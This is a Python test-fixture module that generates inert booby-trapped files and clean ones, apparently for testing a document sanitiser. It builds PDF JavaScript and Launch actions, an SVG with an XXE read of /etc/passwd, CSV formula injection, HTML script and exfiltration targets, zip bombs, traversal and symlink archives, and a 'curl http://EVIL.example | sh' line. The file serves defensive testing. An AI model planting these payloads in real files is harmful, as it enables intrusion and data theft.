"""A generated corpus of booby-trapped but inert files, plus clean documents.

Every payload is harmless (alert boxes, marker strings, a 'MZ' header with no program) but sits
exactly where a real attack would. Markers (`EVIL`) let tests scan outputs byte by byte.
Run `python tests/engine/corpus.py DIR` to write the corpus to a folder.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

MARKER = b"EVIL"
FAKE_EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode. EVIL-EXE"


# --- PDF -----------------------------------------------------------------------------------------

def _font(pdf: pikepdf.Pdf):
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica))


def clean_pdf(pages: int = 3, with_image: bool = True) -> pikepdf.Pdf:
    """Text, vector shapes and a raster image on every page."""
    pdf = pikepdf.new()
    font = _font(pdf)
    picture = Image.new("RGB", (120, 80))
    ImageDraw.Draw(picture).ellipse((10, 10, 110, 70), fill=(200, 40, 40))
    image = pikepdf.Stream(pdf, zlib.compress(picture.tobytes()), Type=Name.XObject,
                           Subtype=Name.Image, Width=120, Height=80,
                           ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
                           Filter=Name.FlateDecode)
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(612, 792))
        page.Resources = Dictionary(Font=Dictionary(F1=font),
                                    XObject=Dictionary(Im1=image) if with_image else Dictionary())
        lines = "".join(f"BT /F1 12 Tf 72 {700 - 16 * i} Td (Line {i} of page {number}: the "
                        f"quick brown fox jumps over the lazy dog.) Tj ET\n" for i in range(25))
        drawing = ("0.2 0.4 0.8 rg 72 200 200 60 re f 0 0 0 RG 2 w 72 150 m 540 150 l S\n"
                   + ("q 240 0 0 160 300 40 cm /Im1 Do Q\n" if with_image else ""))
        page.Contents = pdf.make_stream((f"BT /F1 28 Tf 72 740 Td (Page {number}) Tj ET\n"
                                         + lines + drawing).encode())
    return pdf


def _js(pdf: pikepdf.Pdf, code: str, as_stream: bool = False):
    body = pdf.make_stream(code.encode()) if as_stream else String(code)
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=body))


def hostile_pdf() -> pikepdf.Pdf:
    """JavaScript and other active content in every hiding place we know."""
    pdf = clean_pdf(pages=2)
    root, page1, page2 = pdf.Root, pdf.pages[0], pdf.pages[1]
    launch = pdf.make_indirect(Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc EVIL-LAUNCH")),
        F=String("EVIL-launch.exe")))
    # OpenAction with a chained action
    open_js = _js(pdf, "app.alert('EVIL-openaction')")
    open_js.Next = launch
    root.OpenAction = open_js
    # Document-level additional actions
    root.AA = Dictionary(WC=_js(pdf, "EVIL-wc()"), WS=_js(pdf, "EVIL-ws()"),
                         DS=_js(pdf, "EVIL-ds()"), WP=_js(pdf, "EVIL-wp()"),
                         DP=_js(pdf, "EVIL-dp()"))
    # JavaScript name tree with Kids and a JS stream
    leaf = pdf.make_indirect(Dictionary(
        Names=Array([String("a"), _js(pdf, "EVIL-names()", as_stream=True)]),
        Limits=Array([String("a"), String("a")])))
    embedded = pdf.make_stream(FAKE_EXE, Type=Name.EmbeddedFile)
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("EVIL.exe"),
                                            UF=String("EVIL.exe"), EF=Dictionary(F=embedded)))
    root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])),
                            EmbeddedFiles=Dictionary(Names=Array([String("EVIL.exe"),
                                                                  filespec])))
    # Page additional actions
    page1.AA = Dictionary(O=_js(pdf, "EVIL-page-open()"), C=_js(pdf, "EVIL-page-close()"))
    # XMP and Info metadata
    root.Metadata = pdf.make_stream(b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
                                    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
                                    b'syntax-ns#">EVIL-xmp-author</rdf:RDF></x:xmpmeta>',
                                    Type=Name.Metadata, Subtype=Name.XML)
    pdf.trailer.Info = pdf.make_indirect(Dictionary(Author=String("EVIL-author"),
                                                    Title=String("EVIL-title")))
    # A form: widget with keystroke/format/validate/calculate scripts, XFA with a script
    field = pdf.make_indirect(Dictionary(
        FT=Name.Tx, T=String("name"), Type=Name.Annot, Subtype=Name.Widget,
        Rect=Array([72, 100, 300, 120]), P=page1.obj,
        AA=Dictionary(K=_js(pdf, "EVIL-keystroke()"), F=_js(pdf, "EVIL-format()"),
                      V=_js(pdf, "EVIL-validate()"), C=_js(pdf, "EVIL-calc()"))))
    button = pdf.make_indirect(Dictionary(
        FT=Name.Btn, T=String("send"), Type=Name.Annot, Subtype=Name.Widget,
        Rect=Array([72, 60, 200, 80]), P=page1.obj,
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL,
                                                     F=String("http://EVIL.example/steal")))))
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                          b'<script contentType="application/x-javascript">EVIL-xfa()</script>'
                          b"</template></xdp:xdp>")
    root.AcroForm = Dictionary(Fields=Array([field, button]), XFA=xfa,
                               CO=Array([field]), NeedAppearances=True)
    # Annotations: links of every kind, attachments, multimedia
    def link(rect, action):
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link,
                                            Rect=Array(rect), Border=Array([0, 0, 0]),
                                            A=action))
    annots = [
        field, button,
        link([72, 400, 200, 420], Dictionary(S=Name.URI, URI=String("https://example.com/ok"))),
        link([72, 380, 200, 400], Dictionary(S=Name.URI, URI=String("javascript:EVIL()"))),
        link([72, 360, 200, 380], _js(pdf, "EVIL-link()")),
        link([72, 340, 200, 360], launch),
        link([72, 320, 200, 340], Dictionary(S=Name.ImportData, F=String("EVIL.fdf"))),
        link([72, 300, 200, 320], Dictionary(S=Name.GoToR, F=String("\\\\EVIL\\share\\x.pdf"),
                                             D=Array([0, Name.Fit]))),
        link([72, 280, 200, 300], Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C,
                                                                        N=String("EVIL")))),
        link([72, 260, 200, 280], Dictionary(S=Name.GoTo, D=Array([page2.obj, Name.Fit]))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                     Rect=Array([400, 400, 420, 420]), FS=filespec,
                                     Contents=String("EVIL attachment"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia,
                                     Rect=Array([400, 300, 500, 400]),
                                     RichMediaContent=Dictionary(Assets=Dictionary(
                                         Names=Array([String("EVIL.swf"), filespec]))))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/3D"),
                                     Rect=Array([400, 200, 500, 300]),
                                     **{"/3DD": pdf.make_stream(
                                         b"EVIL-u3d-with-js", Type=Name("/3D"),
                                         Subtype=Name.U3D)})),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Movie,
                                     Rect=Array([400, 100, 500, 200]),
                                     Movie=Dictionary(F=String("EVIL.mov")))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Sound,
                                     Rect=Array([500, 100, 520, 120]),
                                     Sound=pdf.make_stream(b"EVIL-sound", R=8000))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen,
                                     Rect=Array([500, 200, 600, 300]),
                                     A=Dictionary(S=Name.Rendition, OP=0,
                                                  JS=String("EVIL-rendition()")))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text,
                                     Rect=Array([500, 500, 520, 520]),
                                     Contents=String("a note"),
                                     AA=Dictionary(E=_js(pdf, "EVIL-mouse-enter()")))),
    ]
    page1.Annots = Array(annots)
    # Outline (bookmark) running JavaScript
    outline_item = pdf.make_indirect(Dictionary(Title=String("Chapter"),
                                                A=_js(pdf, "EVIL-bookmark()")))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline_item,
                                            Last=outline_item, Count=1))
    outline_item.Parent = outlines
    root.Outlines = outlines
    # A JavaScript action hidden under a key no rule knows, and a PostScript XObject
    page2.obj["/EVILHidden"] = _js(pdf, "EVIL-unknown-key()")
    page2.Resources.XObject.PS1 = pdf.make_stream(b"EVIL-postscript", Type=Name.XObject,
                                                  Subtype=Name.PS)
    # Page-level XMP and private application data
    page2.obj.PieceInfo = Dictionary(EVILApp=Dictionary(Private=String("EVIL-piece")))
    return pdf


def save_pdf(pdf: pikepdf.Pdf, path: Path, object_streams: bool = False) -> Path:
    mode = pikepdf.ObjectStreamMode.generate if object_streams else \
        pikepdf.ObjectStreamMode.disable
    pdf.save(path, object_stream_mode=mode, compress_streams=object_streams)
    return path


def incremental_update_pdf(path: Path) -> Path:
    """A clean PDF plus an appended incremental update that adds an OpenAction script."""
    save_pdf(clean_pdf(pages=1), path)
    data = path.read_bytes()
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    with pikepdf.open(path) as pdf:
        root_num = pdf.Root.objgen[0]
        pages_num = pdf.Root.Pages.objgen[0]
        size = int(pdf.trailer.Size)
    js_num = size
    body = b"\n"
    offsets = {}
    offsets[root_num] = len(data) + len(body)
    body += (f"{root_num} 0 obj\n<< /Type /Catalog /Pages {pages_num} 0 R "
             f"/OpenAction {js_num} 0 R >>\nendobj\n").encode()
    offsets[js_num] = len(data) + len(body)
    body += (f"{js_num} 0 obj\n<< /S /JavaScript /JS (app.alert\\('EVIL-incremental'\\)) >>\n"
             "endobj\n").encode()
    xref_offset = len(data) + len(body)
    xref = b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(offsets):
        xref += f"{num} 1\n{offsets[num]:010d} 00000 n \n".encode()
    trailer = (f"trailer\n<< /Size {size + 1} /Root {root_num} 0 R /Prev {startxref} >>\n"
               f"startxref\n{xref_offset}\n%%EOF\n").encode()
    path.write_bytes(data + body + xref + trailer)
    return path


def polyglot_pdf(path: Path) -> Path:
    """A PDF with a ZIP (holding an executable) appended after %%EOF and an orphan JS object."""
    pdf = clean_pdf(pages=1)
    pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("EVIL-orphan()")))
    save_pdf(pdf, path)
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as zf:
        zf.writestr("EVIL.exe", FAKE_EXE)
    path.write_bytes(path.read_bytes() + payload.getvalue())
    return path


def encrypted_pdf(path: Path, user_password: str = "secret") -> Path:
    clean_pdf(pages=1).save(path, encryption=pikepdf.Encryption(owner="owner-pw",
                                                                 user=user_password))
    return path


# --- images --------------------------------------------------------------------------------------

def _gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "EVIL-camera-maker"
    exif[0x0131] = "EVIL-software"
    if orientation:
        exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}
    return exif


def picture(size=(200, 100)) -> Image.Image:
    image = Image.new("RGB", size, (240, 240, 230))
    draw = ImageDraw.Draw(image)
    draw.rectangle((10, 10, size[0] // 2, size[1] // 2), fill=(20, 90, 200))
    draw.ellipse((size[0] // 2, 20, size[0] - 10, size[1] - 10), fill=(220, 50, 30))
    for x in range(0, size[0], 7):
        draw.line((x, 0, x, size[1]), fill=(x % 255, 120, 60))
    return image


XMP_PACKET = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta '
              b'xmlns:x="adobe:ns:meta/">EVIL-xmp</x:xmpmeta><?xpacket end="w"?>')


def hostile_jpeg(path: Path, quality: int = 75) -> Path:
    """EXIF with GPS and orientation 6, an XMP packet, a comment, and a ZIP after EOI."""
    buffer = io.BytesIO()
    picture().save(buffer, "JPEG", quality=quality, exif=_gps_exif(orientation=6),
                   comment=b"EVIL-comment", xmp=XMP_PACKET)
    path.write_bytes(buffer.getvalue() + b"PK\x03\x04EVIL-trailer" + FAKE_EXE)
    return path


def hostile_png(path: Path) -> Path:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "EVIL-author")
    info.add_itxt("Description", "EVIL-itxt", lang="en")
    info.add_text("Comment", "EVIL-ztxt " * 20, zip=True)
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    picture().save(buffer, "PNG", pnginfo=info, exif=_gps_exif(), icc_profile=srgb)
    path.write_bytes(buffer.getvalue() + b"EVIL-after-IEND" + FAKE_EXE)
    return path


def huge_png(path: Path, width: int, height: int) -> Path:
    """A PNG of `width` x `height` grey pixels that compresses to almost nothing: a small
    file that is large once decoded (the budgets, not the upload limit, must stop it)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + \
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x7f" * (width * 3)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    path.write_bytes(b"\x89PNG\r\n\x1a\n"
                     + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", body) + chunk(b"IEND", b""))
    return path


def hostile_gif(path: Path) -> Path:
    frames = [picture().rotate(angle).quantize(64) for angle in (0, 90, 180)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=120,
                   loop=0, comment=b"EVIL-gif-comment")
    path.write_bytes(buffer.getvalue() + b"EVIL-gif-trailer")
    return path


def hostile_webp(path: Path) -> Path:
    picture().save(path, "WEBP", quality=90, exif=_gps_exif(), xmp=XMP_PACKET)
    return path


def hostile_tiff(path: Path) -> Path:
    from PIL import TiffImagePlugin

    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[270] = "EVIL-description"
    info[315] = "EVIL-artist"
    info[700] = XMP_PACKET
    picture().save(path, "TIFF", tiffinfo=info, compression="tiff_lzw")
    return path


def bmp(path: Path) -> Path:
    picture().save(path, "BMP")
    return path


def png_bomb(path: Path) -> Path:
    """A tiny PNG whose header claims 100000 x 100000 pixels."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + \
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat)
                     + chunk(b"IEND", b""))
    return path


# --- SVG, text, CSV, HTML ------------------------------------------------------------------------

HOSTILE_SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY lol "EVIL-lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="200" height="100" viewBox="0 0 200 100" onload="alert('EVIL-onload')">
  <script type="text/javascript">alert('EVIL-script')</script>
  <style>@import url(http://EVIL.example/x.css); rect { fill: url(http://EVIL.example/p.svg#a); }
    .ok { stroke: #000 }</style>
  <rect id="box" class="ok" x="10" y="10" width="80" height="40" fill="#1e5ac8"
        onclick="alert('EVIL-click')"/>
  <text x="10" y="80" font-size="14">Hello &xxe; &lol2;</text>
  <a xlink:href="javascript:alert('EVIL-href')"><circle cx="150" cy="50" r="30"/></a>
  <a href="https://example.com/ok"><rect x="120" y="80" width="10" height="10"/></a>
  <image x="0" y="0" width="10" height="10" xlink:href="http://EVIL.example/track.png"/>
  <use xlink:href="http://EVIL.example/sprite.svg#icon"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml"
     src="http://EVIL.example/"></iframe></foreignObject>
  <set attributeName="href" to="javascript:alert('EVIL-set')"/>
  <animate attributeName="fill" from="red" to="blue" dur="2s"/>
  <handler type="application/ecmascript">EVIL-handler()</handler>
  <metadata>EVIL-metadata</metadata>
</svg>
"""

HOSTILE_CSV = ("name,amount,note\r\n"
               "alice,-5,plain negative number\r\n"
               "bob,3.14,\"=HYPERLINK(\"\"http://EVIL.example\"\",\"\"click\"\")\"\r\n"
               "carol,+1+1,=cmd|' /C calc'!A0\r\n"
               "dave,@SUM(1+1),-2+3\r\n"
               "erin,\tEVIL-tab,  =1+1\r\n")

HOSTILE_HTML = b"""<!DOCTYPE html>
<html><head><title>Report</title>
<base href="http://EVIL.example/">
<meta http-equiv="refresh" content="0;url=http://EVIL.example/">
<link rel="stylesheet" href="http://EVIL.example/x.css">
<script src="http://EVIL.example/x.js"></script>
<script>alert('EVIL-inline')</script>
<style>@import url("http://EVIL.example/y.css"); body { background: url(http://EVIL.example/bg.png) }
p { color: #333 }</style>
</head>
<body onload="alert('EVIL-onload')">
<h1>Quarterly report</h1>
<p style="color: red; background-image: url('http://EVIL.example/track.gif')">Visible text.</p>
<img src="http://EVIL.example/pixel.gif" onerror="alert('EVIL-onerror')" alt="pixel">
<a href="javascript:alert('EVIL-link')">bad link</a>
<a href="https://example.com/ok">good link</a>
<iframe src="http://EVIL.example/frame"></iframe>
<object data="http://EVIL.example/x.swf"></object>
<embed src="http://EVIL.example/x.swf">
<form action="http://EVIL.example/steal"><input name="q"><button formaction="http://EVIL.example/b">Go</button></form>
<svg><script>alert('EVIL-svg')</script><circle r="5"/></svg>
<!--[if IE]><script>alert('EVIL-conditional')</script><![endif]-->
</body></html>
"""


# --- ZIP -----------------------------------------------------------------------------------------

def zip_bytes(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def encrypted_zip(path: Path) -> Path:
    """A ZIP whose member is flagged as encrypted (traditional PKWARE encryption bit)."""
    data = bytearray(zip_bytes({"secret.txt": b"EVIL-secret"}, zipfile.ZIP_STORED))
    data[6:8] = struct.pack("<H", struct.unpack_from("<H", data, 6)[0] | 1)  # local header
    central = data.find(b"PK\x01\x02")
    data[central + 8:central + 10] = struct.pack(
        "<H", struct.unpack_from("<H", data, central + 8)[0] | 1)
    path.write_bytes(bytes(data))
    return path


def zip_bomb(path: Path, megabytes: int = 64) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("zeros.txt", "w", force_zip64=True) as member:
        block = b"\x00" * (1024 * 1024)
        for _ in range(megabytes):
            member.write(block)
    path.write_bytes(buffer.getvalue())
    return path


def traversal_zip(path: Path, name: str = "../../etc/EVIL.txt") -> Path:
    path.write_bytes(zip_bytes({"ok.txt": b"hello", name: b"EVIL"}))
    return path


def symlink_zip(path: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        info = zipfile.ZipInfo("link-to-passwd")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        zf.writestr(info, "/etc/passwd")
    path.write_bytes(buffer.getvalue())
    return path


# --- OLE (compound file) writer, enough for detection tests --------------------------------------

def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal version-3 compound file whose streams are stored in regular sectors
    (each padded to at least 4096 bytes so no mini stream is needed)."""
    sector = 512
    free, end, fat_sect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    names = list(streams)
    assert len(names) <= 3
    data_sectors: list[bytes] = []
    starts, sizes = [], []
    fat = [fat_sect, end]  # sector 0: FAT, sector 1: directory
    for name in names:
        payload = streams[name].ljust(4096, b"\x00")
        count = -(-len(payload) // sector)
        start = 2 + len(data_sectors)
        starts.append(start)
        sizes.append(len(payload))
        for i in range(count):
            data_sectors.append(payload[i * sector:(i + 1) * sector].ljust(sector, b"\x00"))
            fat.append(start + i + 1 if i < count - 1 else end)
    assert len(fat) <= sector // 4
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, left=nostream, right=nostream, child=nostream,
              start=end, size=0) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", left, right, child) + b"\x00" * 16 + b"\x00" * 4
                + b"\x00" * 16 + struct.pack("<IQ", start, size))

    # Siblings as a simple right-leaning chain ordered by (length, upper-case name).
    order = sorted(range(len(names)), key=lambda i: (len(names[i]), names[i].upper()))
    entries = [entry("Root Entry", 5, child=order[0] + 1 if names else nostream)]
    right_of = {order[k]: order[k + 1] + 1 for k in range(len(order) - 1)}
    for i, name in enumerate(names):
        entries.append(entry(name, 2, right=right_of.get(i, nostream), start=starts[i],
                             size=sizes[i]))
    while len(entries) < 4:
        entries.append(b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0)
                       + struct.pack("<III", nostream, nostream, nostream) + b"\x00" * 48)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    assert len(header) == 512
    return header + struct.pack(f"<{sector // 4}I", *fat) + b"".join(entries) \
        + b"".join(data_sectors)


def encrypted_ooxml(path: Path) -> Path:
    path.write_bytes(ole_file({"EncryptionInfo": b"\x04\x00\x04\x00EVIL",
                               "EncryptedPackage": b"EVIL-encrypted-bytes"}))
    return path


def encrypted_doc(path: Path) -> Path:
    fib = bytearray(64)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    struct.pack_into("<H", fib, 10, 0x0100)  # fEncrypted
    path.write_bytes(ole_file({"WordDocument": bytes(fib), "1Table": b"\x00" * 16}))
    return path


# --- executables and scripts ---------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"EVIL-elf"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://EVIL.example | sh\n"
BATCH_SCRIPT = b"@echo off\r\npowershell -enc EVIL\r\n"


def write_corpus(folder: Path) -> dict[str, Path]:
    """Every corpus file, named the way an attacker would name it."""
    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}

    def put(name: str, data: bytes) -> None:
        files[name] = folder / name
        files[name].write_bytes(data)

    files["clean.pdf"] = save_pdf(clean_pdf(pages=3), folder / "clean.pdf")
    files["hostile.pdf"] = save_pdf(hostile_pdf(), folder / "hostile.pdf")
    files["hostile-objstm.pdf"] = save_pdf(hostile_pdf(), folder / "hostile-objstm.pdf",
                                           object_streams=True)
    files["incremental.pdf"] = incremental_update_pdf(folder / "incremental.pdf")
    files["polyglot.pdf"] = polyglot_pdf(folder / "polyglot.pdf")
    files["encrypted.pdf"] = encrypted_pdf(folder / "encrypted.pdf")
    files["owner-only.pdf"] = encrypted_pdf(folder / "owner-only.pdf", user_password="")
    files["photo.jpg"] = hostile_jpeg(folder / "photo.jpg")
    files["image.png"] = hostile_png(folder / "image.png")
    files["anim.gif"] = hostile_gif(folder / "anim.gif")
    files["image.webp"] = hostile_webp(folder / "image.webp")
    files["scan.tiff"] = hostile_tiff(folder / "scan.tiff")
    files["plain.bmp"] = bmp(folder / "plain.bmp")
    files["bomb.png"] = png_bomb(folder / "bomb.png")
    put("drawing.svg", HOSTILE_SVG)
    put("data.csv", HOSTILE_CSV.encode())
    put("page.html", HOSTILE_HTML)
    put("notes.txt", "caf\xe9 \u202eexe.txt\u202c plain text\n".encode("utf-8"))
    put("legacy.txt", "na\xefve r\xe9sum\xe9\n".encode("cp1252"))
    put("invoice.pdf.exe", FAKE_EXE)
    put("invoice.pdf", FAKE_EXE)  # an executable disguised as a PDF
    put("report.docx", ELF)
    put("readme.txt", SHELL_SCRIPT)
    put("run.txt", BATCH_SCRIPT)
    put("photo-really-png.jpg", (folder / "image.png").read_bytes())
    put("empty.txt", b"")
    put("random.bin", bytes(range(256)) * 16)
    files["encrypted.zip"] = encrypted_zip(folder / "encrypted.zip")
    files["bomb.zip"] = zip_bomb(folder / "bomb.zip")
    files["traversal.zip"] = traversal_zip(folder / "traversal.zip")
    files["symlink.zip"] = symlink_zip(folder / "symlink.zip")
    files["encrypted.docx"] = encrypted_ooxml(folder / "encrypted.docx")
    files["encrypted.doc"] = encrypted_doc(folder / "encrypted.doc")
    inner = zip_bytes({"deep/hostile.pdf": files["hostile.pdf"].read_bytes(),
                       "photo.jpg": files["photo.jpg"].read_bytes()})
    put("bundle.zip", zip_bytes({
        "docs/hostile.pdf": files["hostile.pdf"].read_bytes(),
        "docs/photo.jpg": files["photo.jpg"].read_bytes(),
        "docs/notes.txt": b"hello",
        "tools/setup.exe": FAKE_EXE,
        "tools/install.sh": SHELL_SCRIPT,
        "inner.zip": inner,
        "level1.zip": zip_bytes({"level2.zip": zip_bytes({"level3.zip": zip_bytes(
            {"deepest.txt": b"too deep"})})}),
    }))
    return files


if __name__ == "__main__":
    for name, path in write_corpus(Path(sys.argv[1])).items():
        print(f"{name:28} {path.stat().st_size:>9} bytes")
